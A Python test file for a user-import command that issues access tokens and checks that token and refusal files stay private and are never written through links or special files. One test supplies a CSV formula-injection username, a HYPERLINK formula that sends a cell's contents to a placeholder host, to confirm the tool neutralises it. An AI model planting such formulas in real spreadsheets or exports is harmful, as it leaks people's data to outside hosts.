"""The files that an import writes: tokens and refusals, for their owner's eyes only."""

import csv
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

import manage
import private_files
from tests.support.service import Rows
from tokens import development_operator_token, hash_secret

Import = Callable[..., Result]


USERS = "username,email\nann,ann@example.com\nbob,bob@example.com\n"


AGAIN = "Name another file, or make room on the disk. Run it again: nobody is imported twice.\n"


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "users.csv"
    path.write_text(USERS)
    return path


@pytest.fixture
def run(url: str, monkeypatch: pytest.MonkeyPatch) -> Import:
    """Run the command in this process."""
    monkeypatch.setenv("DATABASE_URL", url)
    return lambda *arguments: CliRunner().invoke(manage.app, ["import", *map(str, arguments)])


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def issued(path: Path) -> list[tuple[str, str]]:
    """The names and the hashes of the tokens in a file."""
    with path.open(newline="") as file:
        return [(row["username"], hash_secret(row["access_token"])) for row in csv.DictReader(file)]


def stored(rows: Rows) -> list[tuple[Any, ...]]:
    return rows("SELECT username, token_hash FROM users JOIN access_tokens ON user_id = users.id ORDER BY username")


def test_who_was_imported_without_a_token_is_issued_one_later(
    run: Import, file: Path, rows: Rows, tmp_path: Path
) -> None:
    kept_in = tmp_path / "tokens.csv"
    run(file)
    file.write_text(f"{USERS}eve,eve@example.com\n")

    result = run(file, "--tokens", kept_in)

    assert result.stdout == "3 lines: 1 user imported, 2 before, 0 refused. 3 tokens issued.\n"
    assert sorted(issued(kept_in)) == stored(rows)
    assert [name for name, _ in stored(rows)] == ["ann", "bob", "eve"]


def test_nobody_is_issued_a_second_token_or_one_that_is_of_no_use(
    run: Import, file: Path, rows: Rows, tmp_path: Path
) -> None:
    kept_in = tmp_path / "tokens.csv"
    run(file, "--tokens", kept_in)
    rows("UPDATE access_tokens SET revoked_at = created_at")
    file.write_text(f"{USERS}eve,eve@example.com\n")
    run(file)
    rows("UPDATE profiles SET status = 'closed' WHERE user_id = (SELECT id FROM users WHERE username = 'eve')")
    before = kept_in.read_text()

    result = run(file, "--tokens", kept_in)

    assert result.stdout == "3 lines: 0 users imported, 3 before, 0 refused. 0 tokens issued.\n"
    assert kept_in.read_text() == before


def test_who_registered_without_an_import_is_issued_none_by_one(
    run: Import, file: Path, rows: Rows, tmp_path: Path
) -> None:
    rows("INSERT INTO users (username, email, created_at) VALUES ('ann', 'ann@example.com', '2026-11-23 09:00:00')")

    result = run(file, "--on-error", "continue", "--tokens", tmp_path / "tokens.csv")

    assert result.stdout == "2 lines: 1 user imported, 0 before, 1 refused. 1 token issued.\n"
    assert [name for name, _ in stored(rows)] == ["bob"]


def test_an_import_that_is_rolled_back_issues_none(run: Import, file: Path, rows: Rows, tmp_path: Path) -> None:
    file.write_text(f"{USERS}ann,other@example.com\n")

    result = run(file, "--tokens", tmp_path / "tokens.csv")

    assert result.stdout == "3 lines: 0 users imported, 0 before, 1 refused. 0 tokens issued.\n"
    assert result.stderr == (
        f"Nothing was imported, since 1 line was refused; {tmp_path}/users.refused.csv says why. "
        "Fix that, and import all again.\n"
    )
    assert stored(rows) == []


def test_a_name_that_is_a_formula_is_none_in_the_file_of_tokens(run: Import, file: Path, tmp_path: Path) -> None:
    file.write_text('username,email\n"=HYPERLINK(""http://x/""&B2)",ann@example.com\n@bob,bob@example.com\n')

    run(file, "--tokens", tmp_path / "tokens.csv")

    assert [name for name, _ in issued(tmp_path / "tokens.csv")] == ['\'=hyperlink("http://x/"&b2)', "'@bob"]


def test_files_that_were_there_are_made_private(run: Import, file: Path, tmp_path: Path) -> None:
    kept_in, refusals = tmp_path / "tokens.csv", tmp_path / "users.refused.csv"
    for path in (kept_in, refusals):
        path.touch(0o644)
        path.chmod(0o644)
    file.write_text(f"{USERS}bob,other@example.com\n")

    run(file, "--on-error", "continue", "--tokens", kept_in)

    assert len(issued(kept_in)) == 2
    for path in (kept_in, refusals, tmp_path / "users.refused.csv~"):
        assert mode(path) == 0o600, path


@pytest.mark.parametrize("option", ["--tokens", "--refusals"])
@pytest.mark.parametrize("kind", ["symlink", "dangling symlink", "hard link", "folder", "pipe", "device"])
def test_nothing_private_is_written_through_a_link_or_into_what_is_no_file(
    run: Import, file: Path, rows: Rows, option: str, kind: str
) -> None:
    path, other = file.with_name("named.csv"), file.with_name("other.csv")
    if kind != "dangling symlink":
        other.write_text("theirs")
    if "symlink" in kind:
        path.symlink_to(other)
    elif kind == "hard link":
        path.hardlink_to(other)
    elif kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path = Path("/dev/full")

    result = run(file, option, path)

    assert result.exit_code == 2
    assert "Nothing was imported." in result.stderr
    assert "Name another file." in result.stderr
    assert rows("SELECT count(*) FROM users") == [(0,)]
    assert path.is_symlink() or path.exists()
    assert other.exists() is (kind != "dangling symlink")
    assert not other.exists() or other.read_text() == "theirs"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_nothing_private_is_written_into_a_file_of_somebody_else(tmp_path: Path) -> None:
    path = tmp_path / "tokens.csv"
    path.touch(0o666)
    os.chown(path, 12345, 12345)

    with pytest.raises(private_files.FileRefused):
        private_files.open_private(path, "a")


def test_the_operator_token_in_a_file_is_made_private(tmp_path: Path) -> None:
    kept_in = tmp_path / ".operator-token"
    kept_in.write_text("svp_known\n")
    kept_in.chmod(0o644)

    assert development_operator_token(kept_in) == "svp_known"
    assert mode(kept_in) == 0o600


def test_a_file_that_cannot_be_read_is_said_plainly(run: Import, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()

    for name, words in (
        ("nofile.csv", f"{tmp_path}/nofile.csv: No such file or directory. {AGAIN}"),
        ("folder", f"{tmp_path}/folder: Is a directory. {AGAIN}"),
    ):
        result = run(tmp_path / name)
        assert (result.exit_code, result.stdout, result.stderr) == (2, "", words)


def test_tokens_that_cannot_be_written_are_not_issued(
    run: Import, file: Path, rows: Rows, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("os.fsync", full)
        result = run(file, "--tokens", tmp_path / "tokens.csv")

    assert result.exit_code == 2
    assert result.stderr == (
        "The file of tokens cannot be written ([Errno 28] No space left on device). "
        "Run it again: nobody is imported twice.\n"
    )
    assert rows("SELECT count(*) FROM users") == [(0,)]
    assert run(file, "--tokens", tmp_path / "tokens.csv").exit_code == 0
    assert [name for name, _ in stored(rows)] == ["ann", "bob"]
